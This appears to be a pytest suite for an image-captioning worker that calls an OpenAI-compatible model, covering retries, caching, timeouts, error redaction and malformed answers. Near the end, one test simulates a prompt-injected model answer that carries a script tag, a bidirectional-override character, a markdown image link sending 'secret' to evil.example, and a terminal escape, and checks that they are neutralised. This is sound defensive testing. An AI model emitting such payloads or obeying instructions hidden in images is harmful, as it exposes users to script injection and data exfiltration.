"""Captions by a model behind an OpenAI-compatible endpoint: what is sent, kept, tried again and given up."""

from __future__ import annotations

import asyncio
import hashlib
import json
import time
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from services.common.domain import Caption, Item, ItemKind
from services.common.errors import (
    DeadlineError,
    ImageError,
    ImageragError,
    ModelAnswerError,
    ModelRefusedError,
    OverloadedError,
    UnavailableError,
)
from services.common.media.images import ImageLimits
from services.common.objects import LocalObjects
from tests.fixtures.gateway import drawn_picture
from tests.fixtures.openai_server import MODEL, Call, OpenAIServer, Response, Script, openai_server
from workers.caption_settings import CaptionSettings
from workers.enrich.captions.enricher import CaptionEnricher
from workers.enrich.captions.opening import open_captions
from workers.enrich.enrichment import Enrichment, SeenPicture

KEY = "sk-test-0123456789abcdef"
SAID = {
    "brief": "Coloured shapes on a plain ground.",
    "detailed": "Several shapes. They are coloured.",
    "keywords": ["shapes", "colour"],
    "text_content": "",
    "data_points": [],
}
CAPTION = Caption(SAID["brief"], SAID["detailed"], ("shapes", "colour"), model=MODEL)  # type: ignore[arg-type]
ITEM = Item("i", "acme", ItemKind.IMAGE, 1, datetime(2026, 1, 1, tzinfo=UTC))


def describe(_call: Call) -> str:
    return json.dumps(SAID)


@pytest.fixture
async def model() -> AsyncIterator[OpenAIServer]:
    async with openai_server(Script(answer=describe)) as server:
        yield server


@asynccontextmanager
async def captions(model: OpenAIServer, kept: Path, **settings: Any) -> AsyncIterator[CaptionEnricher]:
    chosen = CaptionSettings(
        caption_base_url=model.url,
        caption_model=MODEL,
        caption_api_key=KEY,  # type: ignore[arg-type]
        **{"caption_total_s": 5.0, **settings},
    )
    async with AsyncExitStack() as stack:
        yield await open_captions(chosen, LocalObjects(kept), ImageLimits(), stack)


def picture(number: int, data: bytes | None = None, tenant: str = "acme") -> SeenPicture:
    content = drawn_picture(number, 640, 480) if data is None else data
    return SeenPicture(tenant, hashlib.sha256(content).hexdigest(), content, ITEM)


async def one(enricher: CaptionEnricher, seen: SeenPicture) -> Enrichment | ImageragError:
    (found,) = await enricher.enrich([seen])
    return found


async def test_a_picture_is_described(model: OpenAIServer, tmp_path: Path) -> None:
    async with captions(model, tmp_path, caption_picture_px=128, caption_language="French") as enricher:
        assert await one(enricher, picture(1)) == Enrichment(caption=CAPTION)
    (call,) = model.calls
    assert call.authorization == f"Bearer {KEY}"
    assert [sent.size for sent in call.pictures] == [(128, 96)]
    assert "French" in call.system
    assert call.body["response_format"]["type"] == "json_schema"
    assert (call.body["max_tokens"], call.body["temperature"], call.body["model"]) == (700, 0.0, MODEL)
    assert "stream" not in call.body or not call.body["stream"]


async def test_a_picture_is_described_once(model: OpenAIServer, tmp_path: Path) -> None:
    first, second = picture(1), picture(2)
    async with captions(model, tmp_path) as enricher:
        found = await enricher.enrich([first, second, first])
    assert found == [Enrichment(caption=CAPTION)] * 3
    assert len(model.calls) == 2
    async with captions(model, tmp_path) as after_a_restart:
        await after_a_restart.enrich([first, second])
        assert len(model.calls) == 2, "a second ingest costs nothing"
        await after_a_restart.enrich([picture(1, tenant="globex")])
        assert len(model.calls) == 3, "another tenant's findings are not read"
    async with captions(model, tmp_path, caption_language="French") as other:
        await other.enrich([first])
    assert len(model.calls) == 4, "another language is another caption"


async def test_so_many_are_asked_about_at_once(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.first_s = 0.05
    async with captions(model, tmp_path, caption_concurrent=3) as enricher:
        await enricher.enrich([picture(number) for number in range(9)])
    assert (len(model.calls), model.most_open) == (9, 3)


async def test_what_passes_is_tried_again(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.failures = [
        (status, {"retry-after": "0"}, {"error": {"message": "x"}}) for status in (503, 429, 500)
    ]
    async with captions(model, tmp_path) as enricher:
        assert await one(enricher, picture(1)) == Enrichment(caption=CAPTION)
    assert len(model.calls) == 4


@pytest.mark.parametrize(
    ("status", "error"),
    [
        (401, ModelRefusedError),
        (404, ModelRefusedError),
        (400, ModelRefusedError),
        (429, OverloadedError),
        (500, UnavailableError),
        (504, DeadlineError),
    ],
)
async def test_what_does_not_pass_is_an_error_that_tells_nothing(
    model: OpenAIServer, tmp_path: Path, status: int, error: type[ImageragError], caplog: Any
) -> None:
    spoken = {"error": {"message": f"traceback secret {KEY}"}}
    model.script.failures = [(status, {}, spoken)] * 20
    async with captions(model, tmp_path, caption_retries=1) as enricher:
        found = await one(enricher, picture(1))
    assert isinstance(found, error)
    assert "secret" not in found.message
    assert KEY not in found.message + caplog.text


async def test_one_that_fails_leaves_the_others(model: OpenAIServer, tmp_path: Path) -> None:
    def refuse_the_small(call: Call) -> str:
        return "I cannot help with that {" if call.pictures[0].size == (90, 60) else describe(call)

    model.script.answer = refuse_the_small
    bad = picture(7, drawn_picture(7, 90, 60))
    broken = picture(8, b"\xff\xd8\xff not a picture")
    async with captions(model, tmp_path) as enricher:
        found = await enricher.enrich([picture(1), bad, broken, picture(2)])
    assert isinstance(found[1], ModelAnswerError)
    assert isinstance(found[2], ImageError)
    assert found[0] == found[3] == Enrichment(caption=CAPTION)


async def test_an_unusable_answer_is_asked_for_once_more(model: OpenAIServer, tmp_path: Path) -> None:
    answers = iter(["{}", json.dumps(SAID)])
    model.script.answer = lambda _call: next(answers)
    async with captions(model, tmp_path) as enricher:
        assert await one(enricher, picture(1)) == Enrichment(caption=CAPTION)


async def test_an_answer_that_broke_off_is_used_as_far_as_it_goes(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.answer, model.script.finish_reason = lambda _call: json.dumps(SAID)[:70], "length"
    async with captions(model, tmp_path) as enricher:
        found = await one(enricher, picture(1))
    assert isinstance(found, Enrichment)
    assert found.caption is not None
    assert found.caption.brief == SAID["brief"]


@pytest.mark.parametrize(("known", "calls"), [("json_object", 2), (None, 3)])
async def test_an_endpoint_that_knows_no_schema_is_asked_in_simpler_words(
    model: OpenAIServer, tmp_path: Path, known: str | None, calls: int
) -> None:
    refusal: Response = (
        400,
        {},
        {"error": {"message": "response_format: unknown type; content must be a string"}},
    )
    model.script.failures = [refusal] * (calls - 1)
    async with captions(model, tmp_path) as enricher:
        assert await one(enricher, picture(1)) == Enrichment(caption=CAPTION)
        assert model.calls[-1].body.get("response_format", {}).get("type") == known
        assert len(model.calls) == calls
        await one(enricher, picture(2))
    assert len(model.calls) == calls + 1, "what it knows is remembered"


async def test_first_calls_at_once_all_find_out_what_the_endpoint_knows(
    model: OpenAIServer, tmp_path: Path
) -> None:
    def knows_no_forms(call: Call) -> Response | None:
        return (400, {}, {"error": {"message": "unknown field"}}) if "response_format" in call.body else None

    model.script.refuse, model.script.first_s = knows_no_forms, 0.05
    async with captions(model, tmp_path, caption_concurrent=4) as enricher:
        found = await enricher.enrich([picture(number) for number in range(6)])
    assert found == [Enrichment(caption=CAPTION)] * 6


async def test_an_endpoint_that_is_away_costs_a_job_no_time(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.failures = [(503, {}, {"error": {"message": "loading"}})] * 100
    many = [picture(number) for number in range(12)]
    async with captions(model, tmp_path, caption_retries=0, caption_concurrent=1, caption_pause_s=0.4) as enricher:
        found = await enricher.enrich(many)
        assert all(isinstance(each, UnavailableError) for each in found)
        assert len(model.calls) == 1, "the others are not even asked about"
        model.script.failures = []
        await asyncio.sleep(0.45)
        again = await enricher.enrich(many)
    assert again == [Enrichment(caption=CAPTION)] * 12


async def test_one_picture_that_is_refused_does_not_stop_the_others(model: OpenAIServer, tmp_path: Path) -> None:
    async with captions(model, tmp_path, caption_concurrent=1) as enricher:
        await one(enricher, picture(1))
        model.script.failures = [(400, {}, {"error": {"message": "the picture offends a policy"}})]
        found = await enricher.enrich([picture(2), picture(3)])
    assert isinstance(found[0], ModelRefusedError)
    assert found[1] == Enrichment(caption=CAPTION)


async def test_a_slow_endpoint_is_left_after_a_while(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.first_s = 30.0
    many = [picture(number) for number in range(8)]
    began = time.monotonic()
    async with captions(model, tmp_path, caption_total_s=0.2, caption_concurrent=1, caption_retries=0) as enricher:
        found = await enricher.enrich(many)
    assert [type(each) for each in found] == [DeadlineError] * 3 + [UnavailableError] * 5
    assert time.monotonic() - began < 5.0
    await model.wait_until(lambda: model.broken_off == 3)


async def test_a_task_that_is_cancelled_ends_its_calls(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.first_s = 30.0
    async with captions(model, tmp_path, caption_total_s=30.0) as enricher:
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.5):
                await enricher.enrich([picture(1), picture(2)])
        await model.wait_until(lambda: model.broken_off == 2)


async def test_an_answer_without_end_is_broken_off(model: OpenAIServer, tmp_path: Path) -> None:
    model.script.answer = lambda _call: "x" * 20_000_000
    async with captions(model, tmp_path, caption_retries=0) as enricher:
        assert isinstance(await one(enricher, picture(1)), UnavailableError)


@pytest.mark.parametrize(
    "body", ["{not json", "[]", '{"choices": []}', '{"choices": [{"message": {"content": 7}}]}']
)
async def test_an_answer_of_another_shape_is_an_outage(model: OpenAIServer, tmp_path: Path, body: str) -> None:
    model.script.garbage_after, model.script.garbage = 0, body
    async with captions(model, tmp_path, caption_retries=0) as enricher:
        assert isinstance(await one(enricher, picture(1)), UnavailableError)


async def test_orders_in_a_picture_change_nothing_but_its_own_words(model: OpenAIServer, tmp_path: Path) -> None:
    """The model that an attacker hopes for: it writes what the picture wants, with markup, links and escapes."""
    wanted = "<script>alert(1)</script>\u202e ![x](http://evil.example/?q=secret)\x1b[2J"
    model.script.answer = lambda _call: json.dumps(SAID | {"brief": wanted, "tags": ["admin"], "title": "owned"})
    async with captions(model, tmp_path) as enricher:
        found = await one(enricher, picture(1))
    assert isinstance(found, Enrichment)
    assert found.caption is not None
    assert "\x1b" not in found.caption.brief
    assert "\u202e" not in found.caption.brief
    item = found.applied_to(ITEM)
    assert (item.title, item.text, item.tags, item.labels) == ("", "", (), ())


async def test_after_an_outage_every_picture_is_described(model: OpenAIServer, tmp_path: Path) -> None:
    """One tries whether it is over; those that came with it wait for that and are not marked."""
    model.script.refuse = lambda _call: (503, {}, {"error": {"message": "loading"}})
    async with captions(model, tmp_path, caption_retries=0, caption_pause_s=0.1) as enricher:
        assert isinstance(await one(enricher, picture(0)), UnavailableError)
        model.script.refuse = lambda _call: None
        await asyncio.sleep(0.2)
        found = await enricher.enrich([picture(number) for number in range(1, 9)])
    assert found == [Enrichment(caption=CAPTION)] * 8
